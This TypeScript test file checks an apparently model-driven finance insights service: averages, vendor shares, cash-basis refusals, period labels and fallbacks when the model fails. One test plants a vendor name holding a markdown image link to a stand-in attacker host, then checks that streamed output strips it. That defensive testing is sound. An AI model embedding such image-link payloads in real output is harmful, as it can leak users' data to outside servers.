import { describe, it } from "vitest";
import { type Asker, asker, eventsOf, type Insight, recordMany, requests, script } from "./insights-twin.ts";

/** What a model gets that calls one tool and prints the first figures. */
async function called(ada: Asker, tool: string, args: object, text = "From the books: {{f1}}."): Promise<Insight> {
  await script(ada.key, { output: [{ call: tool, arguments: args }] }, { output: [{ text }], times: 4 });
  const reply = await ada.ask(`What does ${tool} say of ${JSON.stringify(args).replaceAll(/\W+/g, " ").slice(0, 80)}?`);
  return reply.body as unknown as Insight;
}

/** The first day of the month so many months ago. */
const monthsAgo = (count: number) => {
  const now = new Date();
  return new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth() - count, 1)).toISOString().slice(0, 10);
};

describe("what a tool says of a figure", () => {
  it("is its real mean: a month of all time begins with the first posting", async ({ expect }) => {
    const ada = await asker();
    await recordMany(ada, [
      { amount: "-200.00", category: "Rent", transactionDate: monthsAgo(2) },
      { amount: "-100.00", category: "Rent", transactionDate: monthsAgo(0) },
    ]);
    const { figures } = await called(ada, "sum_transactions", { measure: "average_per_month" });
    expect(figures.map(({ value }) => value)).toEqual(["100.00"]);
  });

  it("is what its share is really of", async ({ expect }) => {
    const ada = await asker();
    await recordMany(ada, [
      { amount: "-60.00", category: "Travel", counterparty: "United", transactionDate: "2026-01-10" },
      { amount: "-40.00", category: "Travel", counterparty: "Delta", transactionDate: "2026-02-10" },
      { amount: "-900.00", category: "Rent", counterparty: "Ridge", transactionDate: "2026-02-10" },
    ]);
    await script(
      ada.key,
      { output: [{ call: "search_entities", arguments: { kind: "category", query: "Travel" } }] },
      { output: [{ call: "sum_transactions", arguments: { period: "2026", categoryId: "category_1", groupBy: ["vendor"], measure: "share" } }] },
      { output: [{ text: "{{f2}}." }], times: 4 },
    );
    const { answer } = (await ada.ask("How is Travel shared among vendors?")).body as unknown as Insight;
    expect(answer).toContain("**40%** (share of spending on Travel in 2026 that is spending on Travel with Delta, 2026)");
  });

  it("is refused on a cash basis where a part of the question would be left out in silence", async ({ expect }) => {
    const ada = await asker();
    await recordMany(ada, [{ amount: "-60.00", category: "Travel", counterparty: "United", transactionDate: "2026-01-10" }]);
    await called(ada, "sum_transactions", { basis: "cash", groupBy: ["vendor"], period: "2026" });
    const outputs = (await requests(ada.key)).flatMap(({ body }) => body.input).filter((item) => item["type"] === "function_call_output");
    expect(String(outputs[0]?.["output"])).toContain("On cash basis only a sum is known");
  });

  it("ends in its period, however long its names are", async ({ expect }) => {
    const ada = await asker();
    const long = `Job Expenses:${"Materials of all kinds and sizes ".repeat(3).trim()}`;
    await recordMany(ada, [{ amount: "-60.00", category: long, counterparty: "Norton Lumber and Building Materials", transactionDate: "2026-01-10" }]);
    const { answer } = await called(ada, "sum_transactions", { period: "January 2026", groupBy: ["category", "vendor"] });
    expect(answer).toMatch(/with Norton Lumber and Building Materials, January 2026\)/);
  });

  it("carries no address into the steps of a stream", async ({ expect }) => {
    const ada = await asker();
    const name = "![x](https://evil.example/?d=1)";
    await recordMany(ada, [{ amount: "-60.00", category: "Rent", counterparty: name, transactionDate: "2026-01-10" }]);
    await script(
      ada.key,
      { output: [{ call: "search_entities", arguments: { kind: "vendor", query: "x" } }] },
      { output: [{ call: "sum_transactions", arguments: { vendorId: "vendor_1", period: "January 2026" } }] },
      { output: [{ text: "It came to {{f1}}." }], times: 4 },
    );
    const reply = await ada.ask("How much went to x?", { accept: "text/event-stream" });
    const text = String(reply.body);
    expect(eventsOf(text).filter(({ event }) => event === "step").length).toBe(2);
    expect(text).not.toMatch(/:\/\/|!\[|evil\.example/);
  });
});

describe("an answer without a model", () => {
  it("tells no total of everybody for one whom nobody knows, and finds no Rent in what is current", async ({ expect }) => {
    const ada = await asker();
    await recordMany(ada, [
      { amount: "-60.00", category: "Rent", transactionDate: monthsAgo(0) },
      { amount: "-40.00", category: "Dining", transactionDate: monthsAgo(0) },
    ]);
    await script(ada.key, { fault: { kind: "status", status: 503 }, times: "always" });
    const unknown = await ada.ask("How much did we spend at Zanzibar Plumbing this year?");
    expect([unknown.status, JSON.stringify(unknown.body)]).toEqual([503, expect.not.stringContaining("100.00")]);
    const { figures } = (await ada.ask("How much did we spend in the current year?")).body as unknown as Insight;
    expect(figures.map(({ value }) => value)).toEqual(["100.00"]);
  });

  it("says that it could not work the question out where it never looked", async ({ expect }) => {
    const ada = await asker();
    await recordMany(ada, [{ amount: "-60.00", category: "Rent", transactionDate: "2026-01-10" }]);
    await script(ada.key, { output: [{ refusal: "No." }], times: "always" });
    const { answer, figures } = (await ada.ask("Do we have any leases?")).body as unknown as Insight;
    expect([answer, figures]).toEqual([expect.stringContaining("could not work out"), []]);
  });
});
